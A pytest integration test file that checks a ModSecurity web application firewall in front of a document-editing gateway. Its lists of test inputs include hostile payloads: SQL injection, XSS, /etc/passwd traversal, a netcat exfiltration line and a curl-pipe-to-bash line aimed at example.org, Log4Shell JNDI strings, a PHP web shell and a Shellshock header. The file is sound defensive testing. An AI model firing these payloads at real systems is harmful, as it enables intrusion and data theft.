"""ModSecurity with the core rule set: attacks are refused, what people type is not, and no log quotes a secret."""

from __future__ import annotations

import asyncio
import json
import time
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.integration.gateway.backends import Answer, Backends, eventually
from tests.integration.gateway.conftest import generous, modsecurity, write_editor
from tests.integration.gateway.harness import (
    COOKIE,
    PASSWORD,
    PROBLEM,
    SIGNED_IN,
    RunningGateway,
    expect_problem,
    running_gateway,
    whole_lines,
)

ATTACKS = (
    "' OR '1'='1",
    "1 UNION SELECT password FROM users",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc example.org 80",
    "$(curl http://example.org/x.sh | bash)",
    "${jndi:ldap://example.org/a}",
    "<?php system($_GET['c']); ?>",
)
NASTY_TEXTS = (
    *ATTACKS,
    "SELECT * FROM users; DROP TABLE users; --",
    "{{7*7}} #{7*7}",
    "http://127.0.0.1:8080/internal",
    "GET /admin HTTP/1.1\r\nHost: x",
    "Grüße, 你好, 🖋, 100 % & “quoted” \\ 'single'",
    "require('child_process').exec('ls')",
)


@pytest.fixture(scope="module")
async def waf(shared_backends: Backends, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningGateway]:
    folder = tmp_path_factory.mktemp("waf")
    write_editor(folder)
    async with running_gateway(folder, modsecurity(), shared_backends.addresses(), environment=generous()) as running:
        yield running


@pytest.fixture
async def client(waf: RunningGateway) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=waf.url, headers=SIGNED_IN, timeout=30) as opened:
        yield opened


@pytest.mark.parametrize(
    "path",
    [
        "/api/documents?limit=1' OR '1'='1' -- ",
        "/api/documents?cursor=1 UNION SELECT password FROM users",
        "/api/documents?cursor=1; DROP TABLE users",
        "/api/documents?cursor=<script>alert(1)</script>",
        '/api/documents?cursor="><svg/onload=alert(1)>',
        "/api/documents?cursor=../../../../etc/passwd",
        "/api/documents/x%2f..%2f..%2fdocuments/etc/passwd",
        "/api/documents?cursor=;cat /etc/passwd",
        "/api/documents?cursor=$(wget http://example.org/x)",
        "/api/documents?cursor=${jndi:ldap://example.org/a}",
        "/api/documents?cursor=<?php phpinfo(); ?>",
        "/api/documents?url=http://169.254.169.254/?cmd=cat /etc/shadow",
        "/api/documents?cursor=%0d%0aSet-Cookie: a=b",
    ],
)
async def test_attacks_in_the_address_are_refused(client: httpx.AsyncClient, backends: Backends, path: str):
    answer = await client.get(path)

    expect_problem(answer, 403, "request-refused")
    assert backends.document.seen == []


@pytest.mark.parametrize("text", ATTACKS)
async def test_attacks_in_fields_that_nobody_types_are_refused(
    client: httpx.AsyncClient, backends: Backends, text: str
):
    answer = await client.put("/api/documents/x/members", json={"email": "a@example.org", "role": text})

    expect_problem(answer, 403, "request-refused")
    assert backends.document.seen == []


@pytest.mark.parametrize(
    "headers",
    [
        {"User-Agent": "sqlmap/1.7"},
        {"User-Agent": "() { :; }; /bin/bash -c 'id'"},
        {"Referer": "<script>alert(1)</script>"},
        {"Content-Type": "application/x-java-serialized-object"},
    ],
)
async def test_attacks_in_headers_are_refused(client: httpx.AsyncClient, headers: dict[str, str]):
    expect_problem(await client.post("/api/documents", content=b"{}", headers=headers), 403, "request-refused")


@pytest.mark.parametrize("text", NASTY_TEXTS)
async def test_people_may_call_their_documents_and_themselves_what_they_like(
    client: httpx.AsyncClient, backends: Backends, text: str
):
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/api/documents", {"title": text}),
        ("PATCH", "/api/documents/0198c0de-0000-7000-8000-00000000000a", {"title": text}),
        ("PATCH", "/api/users/me", {"name": text, "color": "#ffaa00"}),
        ("POST", "/api/auth/register", {"email": "o'neil+x@example.org", "password": text + PASSWORD, "name": text}),
        ("POST", "/api/auth/sign-in", {"email": "o'neil+x@example.org", "password": text}),
    ]
    for method, path, body in calls:
        answer = await client.request(method, path, json=body)
        assert answer.status_code == 200, (method, path, text)

    assert [json.loads(seen.body)["title"] for seen in backends.document.seen] == [text, text]


async def test_the_whole_api_passes_as_a_browser_calls_it(client: httpx.AsyncClient):
    document = "0198c0de-0000-7000-8000-00000000000a"
    browser = {
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Accept": "application/json, text/plain, */*",
        "Accept-Language": "en-GB,en;q=0.7,de;q=0.3",
        "Origin": "http://127.0.0.1:8080",
        "Referer": f"http://127.0.0.1:8080/documents/{document}",
        "Cookie": f"collab_refresh={COOKIE}--/*' OR 1=1",
        "Sec-Fetch-Mode": "cors",
    }
    calls: list[tuple[str, str, dict[str, Any] | None]] = [
        ("POST", "/api/auth/refresh", None),
        ("POST", "/api/auth/sign-out", None),
        ("GET", "/api/users/me", None),
        ("GET", "/api/documents?limit=50&cursor=eyJlZGl0ZWRfYXQiOiIyMDI2LTAxLTAxVDAwOjAwOjAwWiJ9", None),
        ("GET", f"/api/documents/{document}/members", None),
        ("PUT", f"/api/documents/{document}/members", {"email": "ann@example.org", "role": "editor"}),
        ("DELETE", f"/api/documents/{document}/members/{document}", None),
        ("POST", f"/api/documents/{document}/ticket", None),
        ("DELETE", f"/api/documents/{document}", None),
        ("GET", "/api/documents/schema/openapi.json", None),
        ("GET", "/.well-known/jwks.json", None),
    ]
    for method, path, body in calls:
        answer = await client.request(method, path, json=body, headers=browser)
        assert answer.status_code == 200, (method, path, answer.text)


@pytest.mark.parametrize("body", [b'{"title": ', b"{" * 200, b'{"a":' * 100 + b"1" + b"}" * 100])
async def test_a_body_that_is_not_what_it_says_is_malformed(client: httpx.AsyncClient, backends: Backends, body: bytes):
    answer = await client.post("/api/documents", content=body, headers={"Content-Type": "application/json"})

    expect_problem(answer, 400, "invalid-request")
    assert backends.document.seen == []


async def test_a_body_that_is_not_json_is_refused(client: httpx.AsyncClient):
    for kind in ("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/xml"):
        answer = await client.post("/api/documents", content=b"a=b", headers={"Content-Type": kind})
        assert answer.status_code in {400, 403}, kind


async def test_the_worst_bodies_cost_less_than_a_second_of_processor(client: httpx.AsyncClient, waf: RunningGateway):
    """One large field nobody exempted, and as many fields as fit: both stay far from blocking the worker."""
    for body in ({"role": "$(" * 500_000}, {f"f{number}": "x" for number in range(60_000)}):
        used_s: list[float] = []
        while len(used_s) < 3 and (not used_s or used_s[-1] >= 1):
            before = _used_s(waf)
            answer = await client.post("/api/documents", json=body, timeout=60)
            assert answer.status_code in {400, 413}
            used_s.append(_used_s(waf) - before)
        # What others do to the processor's caches and clock only adds to it.
        assert min(used_s) < 1


def _used_s(gateway: RunningGateway) -> float:
    """Of processor, by all workers: unlike the clock, it does not run while others have their turn."""
    times = [worker.cpu_times() for worker in gateway.workers]
    return sum(used.user + used.system for used in times)


async def test_requests_are_counted_before_they_are_inspected(shared_backends: Backends, tmp_path: Path):
    write_editor(tmp_path)
    slow = generous(request_rate_per_s=1, request_burst=1)
    async with (
        running_gateway(tmp_path, modsecurity(), shared_backends.addresses(), environment=slow) as gateway,
        httpx.AsyncClient(base_url=gateway.url, timeout=30) as client,
    ):
        attack = "/api/documents?q=<script>alert(1)</script>"
        started = time.monotonic()
        answers = await asyncio.gather(*(client.get(attack) for _ in range(12)))
        asking_s = time.monotonic() - started
        counted = Counter(answer.status_code for answer in answers)
        assert 2 <= counted[403] <= 2 + asking_s + 1  # 2 at once, and one a second
        assert counted[429] == 12 - counted[403] > 0


async def test_static_files_and_websockets_do_not_pass_the_waf(client: httpx.AsyncClient):
    assert (await client.get("/?q=<script>alert(1)</script>")).status_code == 200
    assert (await client.get("/collaboration?ticket=' OR 1=1 --")).status_code == 426


async def test_the_audit_log_names_the_rule_and_the_request_and_quotes_no_secret(
    waf: RunningGateway, client: httpx.AsyncClient
):
    answer = await client.post(
        "/api/auth/sign-in?x=<script>alert(1)</script>",
        json={"email": "a@example.org", "password": PASSWORD},
        headers={"Cookie": f"collab_refresh={COOKIE}"},
    )
    expect_problem(answer, 403, "request-refused")
    records = await audit_records(waf.folder / "log/waf-audit.log", answer.headers["x-request-id"])

    transaction = records[0]["transaction"]
    assert any(message["details"]["ruleId"] == "949110" for message in transaction["messages"])
    assert any(message["details"]["ruleId"].startswith("941") for message in transaction["messages"])
    assert "headers" not in transaction["request"]
    assert "body" not in transaction["request"]
    assert waf.leaked() == []


async def test_a_services_own_refusals_are_no_matter_for_the_audit_log(
    waf: RunningGateway, client: httpx.AsyncClient, backends: Backends
):
    for status in (400, 403, 413):
        backends.document.answer = Answer(status, {"content-type": PROBLEM}, b'{"type":"mine"}')
        answer = await client.post("/api/documents", json={"title": "x"})
        assert (answer.status_code, answer.json()) == (status, {"type": "mine"})
        line = await waf.logged(answer.headers["x-request-id"])
        assert (line["status"], line["upstream_status"]) == (status, str(status))
        assert answer.headers["x-request-id"] not in log_text(waf)


async def test_each_request_is_logged_once(waf: RunningGateway, client: httpx.AsyncClient):
    answers = [
        await client.get("/api/documents"),
        await client.get("/api/documents?q=<script>alert(1)</script>"),
        await client.get("/api/documents", headers={"Authorization": ""}),
        await client.post("/api/documents", content=b"x" * 2_000_000),
        await client.get("/api/unknown"),
        await client.get("/"),
    ]
    assert [answer.status_code for answer in answers] == [200, 403, 401, 413, 404, 200]
    for answer in answers:
        line = await waf.logged(answer.headers["x-request-id"])
        assert line["status"] == answer.status_code
        assert line["remote"] == "127.0.0.1"
    ids = [line["request_id"] for line in waf.access_log()]
    assert len(ids) == len(set(ids))


async def test_no_answer_of_a_service_reaches_the_audit_log(
    waf: RunningGateway, client: httpx.AsyncClient, backends: Backends
):
    backends.auth.answer = Answer(headers={"content-type": "text/html"}, body=f"<p>{PASSWORD}</p>".encode())
    answer = await client.post("/api/auth/sign-in", json={"password": PASSWORD}, headers={"User-Agent": ""})

    assert answer.status_code == 200
    records = await audit_records(waf.folder / "log/waf-audit.log", answer.headers["x-request-id"])
    assert records[0]["transaction"]["messages"][0]["details"]["ruleId"] == "920330"
    assert waf.leaked() == []


async def audit_records(log: Path, request_id: str) -> list[dict[str, Any]]:
    """What the audit log says about a request; ModSecurity writes it after nginx has answered."""

    def lines() -> list[str]:
        return [line for line in whole_lines(log) if request_id in line] if log.exists() else []

    await eventually(lambda: bool(lines()))
    return [json.loads(line) for line in lines()]


def log_text(waf: RunningGateway) -> str:
    log = waf.folder / "log/waf-audit.log"
    return log.read_text() if log.exists() else ""
